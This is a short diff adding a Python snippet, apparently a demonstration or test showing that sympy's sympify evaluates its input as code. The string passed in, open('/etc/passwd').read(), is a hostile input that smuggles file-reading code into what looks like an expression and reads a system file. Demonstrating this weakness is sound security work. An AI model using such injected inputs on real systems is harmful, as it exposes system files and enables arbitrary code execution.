@@ -1,0 +1,3 @@
+# why: text for sympify is code, with all built-ins
+import sympy
+sympy.sympify("open('/etc/passwd').read()")
